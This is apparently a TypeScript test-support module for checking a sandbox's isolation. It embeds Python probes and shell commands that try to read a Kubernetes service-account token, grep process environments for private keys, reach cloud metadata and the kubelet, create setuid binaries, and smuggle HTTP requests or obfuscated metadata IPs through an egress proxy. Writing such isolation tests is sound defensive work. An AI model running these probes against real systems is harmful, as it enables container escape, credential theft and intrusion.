import { LINK_LOCAL } from './abuse-surroundings';

/** Tries addresses at once, each for two seconds: `open`, `answered`, or the name of the error. */
export const DIALS = String.raw`
import concurrent.futures, errno, json, socket, struct, sys
QUERY = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\x0a' + b'c2VjcmV0ZQ' + b'\x06tunnel\x04test\x00' + struct.pack('>HH', 16, 1)
def dial(kind, host, port):
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM if kind == 'udp' else socket.SOCK_STREAM) as wire:
        wire.settimeout(2)
        wire.connect((host, port))
        if kind != 'udp':
            return 'open'
        wire.send(QUERY)
        wire.recv(2000)
        return 'answered'
def attempt(target):
    try:
        return dial(*target)
    except socket.timeout:
        return 'timeout'
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
def resolve(name):
    try:
        return socket.getaddrinfo(name, 443)[0][4][0]
    except OSError as error:
        return 'unresolved'
targets, names = json.loads(sys.argv[1])
with concurrent.futures.ThreadPoolExecutor(64) as pool:
    found = dict(zip(targets, pool.map(attempt, targets.values())))
    found.update(zip(names, pool.map(resolve, names)))
print(json.dumps(found))
`;

/** System calls and sockets by themselves: the name of the error, or what came of them. */
export const KERNEL = String.raw`
import ctypes, errno, json, os, socket
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"x86_64": dict(keyctl=250, add_key=248, bpf=321, perf_event_open=298, userfaultfd=323, mount=165, setns=308, kexec_load=246, init_module=175, open_by_handle_at=304, reboot=169),
           "aarch64": dict(keyctl=219, add_key=217, bpf=280, perf_event_open=241, userfaultfd=282, mount=40, setns=268, kexec_load=104, init_module=105, open_by_handle_at=265, reboot=142)}
found = {}
for name, number in numbers[os.uname().machine].items():
    ctypes.set_errno(0)
    found[name] = errno.errorcode.get(ctypes.get_errno(), 'done') if libc.syscall(number, 0, 0, 0, 0, 0, 0) < 0 else 'done'
def opened(family, kind, protocol=0):
    try:
        socket.socket(family, kind, protocol).close()
        return 'opened'
    except OSError as error:
        return errno.errorcode.get(error.errno)
found['raw socket'] = opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
found['packet socket'] = opened(socket.AF_PACKET, socket.SOCK_RAW)
found['stream socket'] = opened(socket.AF_INET, socket.SOCK_STREAM)
def made(kind, number):
    try:
        os.mknod('/tmp/device', kind | 0o600, number)
        os.close(os.open('/tmp/device', os.O_RDONLY))
        return 'opened'
    except OSError as error:
        return errno.errorcode.get(error.errno)
    finally:
        if os.path.exists('/tmp/device'): os.remove('/tmp/device')
import stat
found['device'] = made(stat.S_IFCHR, os.makedev(1, 1))
print(json.dumps(found))
`;

/** Shell commands; each must be refused in words that its test knows. */
export const HOST_COMMANDS: Record<string, string> = {
  token: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token | head -c 20',
  canary:
    'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "PRIVATE KEY"; env | grep -E "^KUBERNETES_|_SERVICE_HOST="',
  root: 'touch /x /usr/x /etc/x && echo written; rm -f /x /usr/x /etc/x',
  mount:
    "python3 -c \"import ctypes, errno; c = ctypes.CDLL(None, use_errno=True); print(c.mount(b'none', b'/mnt', b'tmpfs', 0, None), errno.errorcode.get(ctypes.get_errno()))\"",
  unshare: 'unshare -Urm true && echo unshared; unshare -n true && echo unshared',
  chroot: '/usr/sbin/chroot / true && echo changed',
  sysctl: 'echo 1 > /proc/sys/kernel/domainname && echo set',
  devices: 'ls /dev | grep -E "^(kmsg|mem|sd|vd|loop|kvm|fuse)"',
  processes: 'cat /proc/[0-9]*/comm | grep -cE "^(kubelet|containerd|etcd|testcluster)"',
  cgroup:
    'find /sys/fs/cgroup -maxdepth 2 -writable | head -3; mkdir /sys/fs/cgroup/memory/x /sys/fs/cgroup/x && echo made; rmdir /sys/fs/cgroup/memory/x /sys/fs/cgroup/x 2>/dev/null',
  setuid:
    'cp /usr/bin/id /tmp/id && chmod u+s /tmp/id; find / -xdev -perm -4000 -user root 2>/dev/null | head -3; grep NoNewPrivs /proc/self/status',
  identity: 'id -u; grep CapEff /proc/self/status',
  chown: 'touch /tmp/mine; chown 0 /tmp/mine && echo changed',
  priority: 'nice -n -10 true && echo raised',
  runtime: 'ls /run/containerd /var/run/docker.sock /var/lib/kubelet',
};

/** All commands in one go, told apart by lines that no command writes. */
export const inOneGo = (commands: Record<string, string>): string =>
  Object.entries(commands)
    .map(([name, command]) => `echo; echo '=== ${name}'; (${command}) 2>&1`)
    .join('\n') + '\nexit 0';

export function sectionsOf(output: string): Record<string, string> {
  const sections = output.split(/^=== /m).slice(1);
  return Object.fromEntries(
    sections.map((text) => [text.split('\n', 1)[0], text.slice(text.indexOf('\n') + 1).trim()]),
  );
}

/** What to dial, by what it is. */
export function targets(addresses: Record<string, string>): Record<string, [string, string, number]> {
  const { node = '', api = '', dns = '', neighbour = '', ide = '', store = '', broker = '', one = '' } = addresses;
  return {
    metadata: ['tcp', LINK_LOCAL, 80],
    'node-local DNS': ['udp', LINK_LOCAL, 53],
    'node-local DNS by TCP': ['tcp', LINK_LOCAL, 53],
    'API server': ['tcp', api, 443],
    'API server at its node': ['tcp', node, 6443],
    kubelet: ['tcp', node, 10250],
    'cluster DNS': ['udp', dns, 53],
    'cluster DNS by TCP': ['tcp', dns, 53],
    'another sandbox': ['tcp', neighbour, 7777],
    'an IDE': ['tcp', ide, 8080],
    store: ['tcp', store, 27017],
    broker: ['tcp', broker, 4222],
    'tool-executor': ['tcp', one, 9090],
  };
}

/** Speaks to the proxy byte by byte. Prints the answers' status and own header, or why there is none. */
export const PROXY = String.raw`
import json, os, socket, ssl, sys, base64, urllib.parse
proxy = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
OWN = base64.b64encode(f'{proxy.username}:{proxy.password}'.encode()).decode()
FOREIGN = base64.b64encode(sys.argv[1].encode()).decode()
def wire():
    made = socket.create_connection((proxy.hostname, proxy.port), timeout=8)
    return made
def told(text):
    status = text.split(b' ', 2)[1].decode() if text.startswith(b'HTTP/') else 'none'
    own = [line.split(b':', 1)[1].strip().decode() for line in text.split(b'\r\n') if line.lower().startswith(b'x-margay-egress:')]
    return ' '.join([status] + own)
def heard(open_wire):
    text = b''
    try:
        while True:
            piece = open_wire.recv(65536)
            if not piece: break
            text += piece
    except OSError: pass
    return text
def send(raw):
    with wire() as open_wire:
        open_wire.sendall(raw)
        return heard(open_wire)
def get(url, host='web.test', user=OWN, more=''):
    auth = f'Proxy-Authorization: Basic {user}\r\n' if user else ''
    return f'GET {url} HTTP/1.1\r\nHost: {host}\r\n{auth}{more}Connection: close\r\n\r\n'.encode()
def tunnel(host, server_name):
    with wire() as open_wire:
        open_wire.sendall(f'CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\nProxy-Authorization: Basic {OWN}\r\n\r\n'.encode())
        first = open_wire.recv(65536)
        if b' 200 ' not in first: return told(first)
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        try:
            context.wrap_socket(open_wire, server_hostname=server_name)
            return 'spoke'
        except ssl.SSLError as error:
            return error.reason or str(error)
        except OSError as error:
            return type(error).__name__
found = {}
for name in ('web.test', 'inner.test', 'mixed.test'): found[name] = told(send(get(f'http://{name}/', name)))
found['turning.test'] = [told(send(get('http://turning.test/', 'turning.test'))) for _ in range(2)]
for literal in ('169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '[::ffff:169.254.169.254]', '[fe80::a9fe:a9fe]', '127.1'):
    found[literal] = told(send(get(f'http://{literal}/', literal)))
found['other host'] = send(get('http://web.test/', 'inner.test')).split(b'\r\n\r\n')[-1].decode()
found['no user'] = told(send(get('http://web.test/', user='')))
found['foreign user'] = told(send(get('http://web.test/', user=FOREIGN)))
found['wrong token'] = told(send(get('http://web.test/', user=base64.b64encode(f'{proxy.username}:x'.encode()).decode())))
inner = 'GET http://web.test/smuggled HTTP/1.1\r\nHost: web.test\r\n\r\n'
def smuggled(more, body):
    return told(send(f'POST http://web.test/outer HTTP/1.1\r\nHost: web.test\r\nProxy-Authorization: Basic {OWN}\r\n{more}\r\n{body}'.encode()))
found['both lengths'] = smuggled('Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', '0\r\n\r\n' + inner)
found['two lengths'] = smuggled(f'Content-Length: 0\r\nContent-Length: {len(inner)}\r\n', inner)
found['broken header'] = smuggled('X-A: b\r\n Content-Length: 0\r\nConnection: close\r\n', '')
found['strange coding'] = smuggled('Transfer-Encoding: xchunked\r\nConnection: close\r\n', '0\r\n\r\n' + inner)
found['server name'] = tunnel('web.test', 'web.test')
found['other server name'] = tunnel('web.test', 'inner.test')
found['tunnel inside'] = tunnel('inner.test', 'inner.test')
found['tunnel literal'] = tunnel('169.254.169.254', 'web.test')
print(json.dumps(found))
`;
